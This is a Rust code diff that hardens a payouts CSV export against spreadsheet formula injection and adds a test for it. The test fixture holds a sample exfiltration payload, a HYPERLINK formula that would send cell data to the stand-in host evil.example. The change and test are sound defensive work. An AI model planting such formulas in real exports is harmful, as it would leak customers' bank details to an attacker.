@@ -220,18 +220,35 @@ fn looks_like_iban(text: &str) -> bool {
         && b.iter().all(u8::is_ascii_alphanumeric)
 }
 
-/// The manual payouts as CSV (RFC 4180: fields with commas, quotes or newlines are quoted).
-pub fn to_csv(rows: &[ManualPayout]) -> String {
-    fn field(value: &str) -> String {
-        if value.contains([',', '"', '\n', '\r']) {
-            format!("\"{}\"", value.replace('"', "\"\""))
-        } else {
-            value.to_string()
-        }
+/// A cell a spreadsheet would run as a formula (it starts with `=`, `+`, `-`, `@`, a tab or
+/// a carriage return: OWASP's CSV injection list) gets a leading `'`, which spreadsheets show
+/// as text. Bank details and names come from customers: `=HYPERLINK(...)` must stay words.
+fn neutralise_formula(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
     }
-    let mut out = String::from(
-        "request_id,merchant,amount,currency,bank_details,account_holder,contact_email,due_on,received_at\r\n",
-    );
+}
+
+/// The manual payouts as CSV (RFC 4180, written by the `csv` crate: fields with commas,
+/// quotes or line breaks are quoted), every cell neutralised against formulas.
+pub fn to_csv(rows: &[ManualPayout]) -> String {
+    let mut out = csv::WriterBuilder::new()
+        .terminator(csv::Terminator::CRLF)
+        .from_writer(Vec::new());
+    let header = [
+        "request_id",
+        "merchant",
+        "amount",
+        "currency",
+        "bank_details",
+        "account_holder",
+        "contact_email",
+        "due_on",
+        "received_at",
+    ];
+    out.write_record(header).expect("writing to memory");
     for r in rows {
         let cells = [
             r.request_id.to_string(),
@@ -244,11 +261,11 @@ pub fn to_csv(rows: &[ManualPayout]) -> String {
             r.due_on.map(|d| d.to_string()).unwrap_or_default(),
             r.received_at.to_rfc3339(),
         ];
-        let line: Vec<String> = cells.iter().map(|c| field(c)).collect();
-        out.push_str(&line.join(","));
-        out.push_str("\r\n");
+        out.write_record(cells.iter().map(|c| neutralise_formula(c).into_owned()))
+            .expect("writing to memory");
     }
-    out
+    let bytes = out.into_inner().expect("writing to memory");
+    String::from_utf8(bytes).expect("the cells are UTF-8")
 }
 
 #[cfg(test)]
@@ -282,5 +299,35 @@ mod tests {
             "{line}"
         );
         assert!(line.starts_with("00000000-0000-0000-0000-000000000000,byskills,90.00,BYN,"));
+    }
+
+    #[test]
+    fn a_formula_in_any_cell_stays_text() {
+        let row = ManualPayout {
+            request_id: Uuid::nil(),
+            merchant: Some("byskills".into()),
+            amount: Some("90.00".into()),
+            currency: Some("BYN".into()),
+            bank_details: Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"IBAN\")".into()),
+            account_holder: Some("@SUM(1+1)".into()),
+            contact_email: Some("+1-555".into()),
+            due_on: None,
+            received_at: "2026-03-20T09:00:00Z".parse().unwrap(),
+        };
+        let csv = to_csv(&[row]);
+        let mut reader = csv::Reader::from_reader(csv.as_bytes());
+        let record = reader.records().next().unwrap().unwrap();
+        assert_eq!(
+            &record[4],
+            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"IBAN\")"
+        );
+        assert_eq!(&record[5], "'@SUM(1+1)");
+        assert_eq!(&record[6], "'+1-555");
+        for cell in record.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell}"
+            );
+        }
     }
 }
